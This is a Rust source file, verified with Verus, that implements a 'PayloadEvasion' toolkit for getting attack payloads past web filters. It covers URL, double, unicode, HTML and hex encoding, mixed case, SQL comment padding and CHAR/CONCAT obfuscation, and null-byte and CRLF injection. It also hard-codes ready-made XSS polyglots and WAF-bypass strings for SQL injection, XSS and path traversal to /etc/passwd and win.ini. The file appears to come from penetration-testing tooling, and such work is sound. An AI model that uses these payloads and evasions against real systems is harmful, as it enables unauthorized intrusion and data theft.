//! Payload transformations that slip past naive filters: encodings, case
//! mixing, comment-padding and ready-made bypass strings.
use vstd::prelude::*;
use vstd::utf8::encode_utf8;
use crate::text::{decimal, format_digits, hex, replace_all, replace_char, seq_contains, str_contains};
use crate::urls::{percent_encode, url_encode};

verus! {

/// Upper-case form of a character, which may be several characters.
pub uninterp spec fn upper_of(c: char) -> Seq<char>;

/// Lower-case form of a character, which may be several characters.
pub uninterp spec fn lower_of(c: char) -> Seq<char>;

/// Relies on `char::to_uppercase`: the character's upper-case mapping.
#[verifier::external_body]
fn char_upper(c: char) -> (r: String)
    ensures
        r@ == upper_of(c),
{
    c.to_uppercase().collect()
}

/// Relies on `char::to_lowercase`: the character's lower-case mapping.
#[verifier::external_body]
fn char_lower(c: char) -> (r: String)
    ensures
        r@ == lower_of(c),
{
    c.to_lowercase().collect()
}

pub open spec fn zeros(n: nat) -> Seq<char> {
    Seq::new(n, |i: int| '0')
}

/// Lower-case hex digits of `n`, left-padded with zeros to four.
pub open spec fn hex4(n: nat) -> Seq<char> {
    if hex(n).len() >= 4 {
        hex(n)
    } else {
        zeros((4 - hex(n).len()) as nat) + hex(n)
    }
}

/// Joins the images of every character of `s` under `f`.
pub open spec fn flat_chars(s: Seq<char>, f: spec_fn(char) -> Seq<char>) -> Seq<char>
    decreases s.len(),
{
    if s.len() == 0 {
        Seq::empty()
    } else {
        flat_chars(s.drop_last(), f) + f(s.last())
    }
}

pub open spec fn unicode_escape(c: char) -> Seq<char> {
    "\\u"@ + hex4(c as nat)
}

pub open spec fn html_entity(c: char) -> Seq<char> {
    if c == '<' {
        "&lt;"@
    } else if c == '>' {
        "&gt;"@
    } else if c == '"' {
        "&quot;"@
    } else if c == '\'' {
        "&#x27;"@
    } else if c == '&' {
        "&amp;"@
    } else {
        "&#x"@ + hex(c as nat) + ";"@
    }
}

pub open spec fn hex_of_char(c: char) -> Seq<char> {
    hex(c as nat)
}

/// Upper case at even positions, lower case at odd ones.
pub open spec fn mixed(s: Seq<char>) -> Seq<char>
    decreases s.len(),
{
    if s.len() == 0 {
        Seq::empty()
    } else {
        mixed(s.drop_last()) + if (s.len() - 1) % 2 == 0 {
            upper_of(s.last())
        } else {
            lower_of(s.last())
        }
    }
}

/// Joins the images of every character under `f`, with `sep` between them.
pub open spec fn join_chars(s: Seq<char>, f: spec_fn(char) -> Seq<char>, sep: Seq<char>) -> Seq<char>
    decreases s.len(),
{
    if s.len() == 0 {
        Seq::empty()
    } else if s.len() == 1 {
        f(s[0])
    } else {
        join_chars(s.drop_last(), f, sep) + sep + f(s.last())
    }
}

pub open spec fn char_code(c: char) -> Seq<char> {
    "CHAR("@ + decimal(((c as u32) % 256) as nat) + ")"@
}

pub open spec fn quoted_char(c: char) -> Seq<char> {
    "'"@ + seq![c] + "'"@
}

fn hex4_string(n: u32) -> (r: String)
    ensures
        r@ == hex4(n as nat),
{
    let h = format_digits(n as u64, 16);
    let len = h.as_str().unicode_len();
    if len >= 4 {
        h
    } else {
        let mut out = String::new();
        let mut k: usize = len;
        while k < 4
            invariant
                len <= k <= 4,
                len == hex(n as nat).len(),
                out@ == zeros((k - len) as nat),
            decreases 4 - k,
        {
            out.append("0");
            proof {
                reveal_strlit("0");
            }
            assert(out@ =~= zeros((k + 1 - len) as nat));
            k += 1;
        }
        out.append(h.as_str());
        out
    }
}

fn char_str(s: &str, i: usize) -> (r: &str)
    requires
        i < s@.len() <= usize::MAX,
    ensures
        r@ == seq![s@[i as int]],
{
    let r = s.substring_char(i, i + 1);
    assert(r@ =~= seq![s@[i as int]]);
    r
}

/// Stateless payload transformations.
pub struct PayloadEvasion;

impl PayloadEvasion {
    /// Percent-encodes every byte but ASCII letters, digits and `-._~`.
    pub fn url_encode(payload: &str) -> (r: String)
        ensures
            r@ == percent_encode(encode_utf8(payload@)),
    {
        url_encode(payload)
    }

    /// Percent-encodes twice.
    pub fn double_encode(payload: &str) -> (r: String)
        ensures
            r@ == percent_encode(encode_utf8(percent_encode(encode_utf8(payload@)))),
    {
        let first = url_encode(payload);
        url_encode(first.as_str())
    }

    /// A `\u` escape with four or more hex digits for each character.
    pub fn unicode_encode(payload: &str) -> (r: String)
        ensures
            r@ == flat_chars(payload@, |c: char| unicode_escape(c)),
    {
        let n = payload.unicode_len();
        let mut out = String::new();
        let mut i: usize = 0;
        while i < n
            invariant
                n == payload@.len(),
                0 <= i <= n,
                out@ == flat_chars(payload@.subrange(0, i as int), |c: char| unicode_escape(c)),
            decreases n - i,
        {
            let c = payload.get_char(i);
            out.append("\\u");
            let h = hex4_string(c as u32);
            out.append(h.as_str());
            assert(payload@.subrange(0, i + 1).drop_last() =~= payload@.subrange(0, i as int));
            i += 1;
        }
        assert(payload@.subrange(0, n as int) =~= payload@);
        out
    }

    /// Named entities for `<>"'&`, hex character references for the rest.
    pub fn html_encode(payload: &str) -> (r: String)
        ensures
            r@ == flat_chars(payload@, |c: char| html_entity(c)),
    {
        let n = payload.unicode_len();
        let mut out = String::new();
        let mut i: usize = 0;
        while i < n
            invariant
                n == payload@.len(),
                0 <= i <= n,
                out@ == flat_chars(payload@.subrange(0, i as int), |c: char| html_entity(c)),
            decreases n - i,
        {
            let c = payload.get_char(i);
            if c == '<' {
                out.append("&lt;");
            } else if c == '>' {
                out.append("&gt;");
            } else if c == '"' {
                out.append("&quot;");
            } else if c == '\'' {
                out.append("&#x27;");
            } else if c == '&' {
                out.append("&amp;");
            } else {
                out.append("&#x");
                let h = format_digits(c as u64, 16);
                out.append(h.as_str());
                out.append(";");
            }
            assert(payload@.subrange(0, i + 1).drop_last() =~= payload@.subrange(0, i as int));
            i += 1;
        }
        assert(payload@.subrange(0, n as int) =~= payload@);
        out
    }

    /// Lower-case hex code point of each character, unpadded.
    pub fn hex_encode(payload: &str) -> (r: String)
        ensures
            r@ == flat_chars(payload@, |c: char| hex_of_char(c)),
    {
        let n = payload.unicode_len();
        let mut out = String::new();
        let mut i: usize = 0;
        while i < n
            invariant
                n == payload@.len(),
                0 <= i <= n,
                out@ == flat_chars(payload@.subrange(0, i as int), |c: char| hex_of_char(c)),
            decreases n - i,
        {
            let c = payload.get_char(i);
            let h = format_digits(c as u64, 16);
            out.append(h.as_str());
            assert(payload@.subrange(0, i + 1).drop_last() =~= payload@.subrange(0, i as int));
            i += 1;
        }
        assert(payload@.subrange(0, n as int) =~= payload@);
        out
    }

    /// Upper case at even positions, lower case at odd ones.
    pub fn mixed_case(payload: &str) -> (r: String)
        ensures
            r@ == mixed(payload@),
    {
        let n = payload.unicode_len();
        let mut out = String::new();
        let mut i: usize = 0;
        while i < n
            invariant
                n == payload@.len(),
                0 <= i <= n,
                out@ == mixed(payload@.subrange(0, i as int)),
            decreases n - i,
        {
            let c = payload.get_char(i);
            let m = if i % 2 == 0 {
                char_upper(c)
            } else {
                char_lower(c)
            };
            out.append(m.as_str());
            assert(payload@.subrange(0, i + 1).drop_last() =~= payload@.subrange(0, i as int));
            i += 1;
        }
        assert(payload@.subrange(0, n as int) =~= payload@);
        out
    }

    /// Spaces become `/**/`, and `=` is padded with comments.
    pub fn obfuscate_whitespace(payload: &str) -> (r: String)
        ensures
            r@ == replace_char(replace_char(payload@, ' ', "/**/"@), '=', "/**/=/**/"@),
    {
        let step = replace_all(payload, ' ', "/**/");
        replace_all(step.as_str(), '=', "/**/=/**/")
    }

    /// Spaces become `/**/`.
    pub fn sql_comment_evasion(payload: &str) -> (r: String)
        ensures
            r@ == replace_char(payload@, ' ', "/**/"@),
    {
        replace_all(payload, ' ', "/**/")
    }

    /// `CONCAT('CHAR(n),...')` of the low byte of each character, and the
    /// quoted characters joined by `+`.
    pub fn sql_concat_evasion(word: &str) -> (r: Vec<String>)
        ensures
            r@.len() == 2,
            r@[0]@ == "CONCAT('"@ + join_chars(word@, |c: char| char_code(c), ","@) + "')"@,
            r@[1]@ == join_chars(word@, |c: char| quoted_char(c), "+"@),
    {
        let n = word.unicode_len();
        let mut codes = String::new();
        let mut quoted = String::new();
        let mut i: usize = 0;
        while i < n
            invariant
                n == word@.len(),
                0 <= i <= n,
                codes@ == join_chars(word@.subrange(0, i as int), |c: char| char_code(c), ","@),
                quoted@ == join_chars(word@.subrange(0, i as int), |c: char| quoted_char(c), "+"@),
            decreases n - i,
        {
            let c = word.get_char(i);
            if i > 0 {
                codes.append(",");
                quoted.append("+");
            }
            codes.append("CHAR(");
            let d = format_digits(((c as u32) % 256) as u64, 10);
            codes.append(d.as_str());
            codes.append(")");
            quoted.append("'");
            quoted.append(char_str(word, i));
            quoted.append("'");
            proof {
                let sub = word@.subrange(0, i + 1);
                assert(sub.drop_last() =~= word@.subrange(0, i as int));
                if i == 0 {
                    assert(sub.len() == 1);
                    assert(codes@ =~= char_code(c));
                    assert(quoted@ =~= quoted_char(c));
                } else {
                    assert(codes@ =~= join_chars(sub.drop_last(), |c: char| char_code(c), ","@) + ","@ + char_code(c));
                    assert(quoted@ =~= join_chars(sub.drop_last(), |c: char| quoted_char(c), "+"@) + "+"@
                        + quoted_char(c));
                }
            }
            i += 1;
        }
        assert(word@.subrange(0, n as int) =~= word@);
        let mut first = String::from_str("CONCAT('");
        first.append(codes.as_str());
        first.append("')");
        let mut out: Vec<String> = Vec::new();
        out.push(first);
        out.push(quoted);
        out
    }

    /// Payloads that execute in several HTML and script contexts at once.
    pub fn xss_polyglots() -> (r: Vec<String>)
        ensures
            r@.len() == 3,
            r@[0]@ == r#"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"#@,
            r@[1]@ == r#"'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\></|\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>@gmail.com<isindex formaction=javascript:alert(/XSS/) type=submit>'--></script><script>alert(1)</script>"><img/id="confirm&lpar;1)"/alt="/"src="/"onerror=eval(id&%23x29;>'"><img src="http://i.imgur.com/P8mL8.jpg">"#@,
            r@[2]@ == r#"jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert()//"#@,
    {
        let mut out: Vec<String> = Vec::new();
        out.push(String::from_str(
            r#"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"#,
        ));
        out.push(String::from_str(
            r#"'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\></|\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>@gmail.com<isindex formaction=javascript:alert(/XSS/) type=submit>'--></script><script>alert(1)</script>"><img/id="confirm&lpar;1)"/alt="/"src="/"onerror=eval(id&%23x29;>'"><img src="http://i.imgur.com/P8mL8.jpg">"#,
        ));
        out.push(String::from_str(
            r#"jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert()//"#,
        ));
        out
    }

    /// The payload, its single and double percent-encodings and its mixed-case
    /// form; for SQL (holding `SELECT` or `UNION`) also its comment-padded forms.
    pub fn generate_variants(payload: &str) -> (r: Vec<String>)
        ensures
            r@.len() == if seq_contains(payload@, "SELECT"@) || seq_contains(payload@, "UNION"@) {
                6int
            } else {
                4int
            },
            r@[0]@ == payload@,
            r@[1]@ == percent_encode(encode_utf8(payload@)),
            r@[2]@ == percent_encode(encode_utf8(percent_encode(encode_utf8(payload@)))),
            r@[3]@ == mixed(payload@),
            r@.len() == 6 ==> r@[4]@ == replace_char(payload@, ' ', "/**/"@) && r@[5]@ == replace_char(
                replace_char(payload@, ' ', "/**/"@),
                '=',
                "/**/=/**/"@,
            ),
    {
        let mut variants: Vec<String> = Vec::new();
        variants.push(String::from_str(payload));
        variants.push(PayloadEvasion::url_encode(payload));
        variants.push(PayloadEvasion::double_encode(payload));
        variants.push(PayloadEvasion::mixed_case(payload));
        if str_contains(payload, "SELECT") || str_contains(payload, "UNION") {
            variants.push(PayloadEvasion::sql_comment_evasion(payload));
            variants.push(PayloadEvasion::obfuscate_whitespace(payload));
        }
        variants
    }

    /// Known filter bypasses by class: `sqli`, `xss` and `lfi`, in that order.
    pub fn waf_bypasses() -> (r: Vec<(&'static str, Vec<&'static str>)>)
        ensures
            r@.len() == 3,
            r@[0].0@ == "sqli"@,
            r@[0].1@.map_values(|s: &str| s@) == seq!["/*!50000SELECT*/ * FROM users"@, "SeLeCt * FrOm users"@, "SELECT/**/users/**/FROM/**/users"@, "SELECT(1)FROM(users)"@, "%53%45%4c%45%43%54%20%2a%20%46%52%4f%4d%20%75%73%65%72%73"@],
            r@[1].0@ == "xss"@,
            r@[1].1@.map_values(|s: &str| s@) == seq!["<script>alert(String.fromCharCode(88,83,83))</script>"@, "<svg/onload=alert(1)>"@, "<img src=x onerror=alert(1)>"@, "<iframe src=\"javascript:alert(1)\">"@, "<<SCRIPT>alert('XSS');//<</SCRIPT>"@],
            r@[2].0@ == "lfi"@,
            r@[2].1@.map_values(|s: &str| s@) == seq!["....//....//....//etc/passwd"@, "..%2F..%2F..%2Fetc%2Fpasswd"@, "....\\\\....\\\\....\\\\windows\\\\win.ini"@, "/var/www/../../etc/passwd"@],
    {
        let mut bypasses: Vec<(&'static str, Vec<&'static str>)> = Vec::new();
        bypasses.push(
            (
                "sqli",
                vec![
                    "/*!50000SELECT*/ * FROM users",
                    "SeLeCt * FrOm users",
                    "SELECT/**/users/**/FROM/**/users",
                    "SELECT(1)FROM(users)",
                    "%53%45%4c%45%43%54%20%2a%20%46%52%4f%4d%20%75%73%65%72%73",
                ],
            ),
        );
        bypasses.push(
            (
                "xss",
                vec![
                    "<script>alert(String.fromCharCode(88,83,83))</script>",
                    "<svg/onload=alert(1)>",
                    "<img src=x onerror=alert(1)>",
                    "<iframe src=\"javascript:alert(1)\">",
                    "<<SCRIPT>alert('XSS');//<</SCRIPT>",
                ],
            ),
        );
        bypasses.push(
            (
                "lfi",
                vec![
                    "....//....//....//etc/passwd",
                    "..%2F..%2F..%2Fetc%2Fpasswd",
                    "....\\\\....\\\\....\\\\windows\\\\win.ini",
                    "/var/www/../../etc/passwd",
                ],
            ),
        );
        assert(bypasses@[0].1@.map_values(|s: &str| s@) =~= seq!["/*!50000SELECT*/ * FROM users"@, "SeLeCt * FrOm users"@, "SELECT/**/users/**/FROM/**/users"@, "SELECT(1)FROM(users)"@, "%53%45%4c%45%43%54%20%2a%20%46%52%4f%4d%20%75%73%65%72%73"@]);
        assert(bypasses@[1].1@.map_values(|s: &str| s@) =~= seq!["<script>alert(String.fromCharCode(88,83,83))</script>"@, "<svg/onload=alert(1)>"@, "<img src=x onerror=alert(1)>"@, "<iframe src=\"javascript:alert(1)\">"@, "<<SCRIPT>alert('XSS');//<</SCRIPT>"@]);
        assert(bypasses@[2].1@.map_values(|s: &str| s@) =~= seq!["....//....//....//etc/passwd"@, "..%2F..%2F..%2Fetc%2Fpasswd"@, "....\\\\....\\\\....\\\\windows\\\\win.ini"@, "/var/www/../../etc/passwd"@]);
        bypasses
    }

    /// The payload followed by `%00.jpg`.
    pub fn null_byte_inject(payload: &str) -> (r: String)
        ensures
            r@ == payload@ + "%00.jpg"@,
    {
        let mut s = String::from_str(payload);
        s.append("%00.jpg");
        s
    }

    /// `%0d%0a` followed by the payload.
    pub fn crlf_inject(payload: &str) -> (r: String)
        ensures
            r@ == "%0d%0a"@ + payload@,
    {
        let mut s = String::from_str("%0d%0a");
        s.append(payload);
        s
    }
}

} // verus!
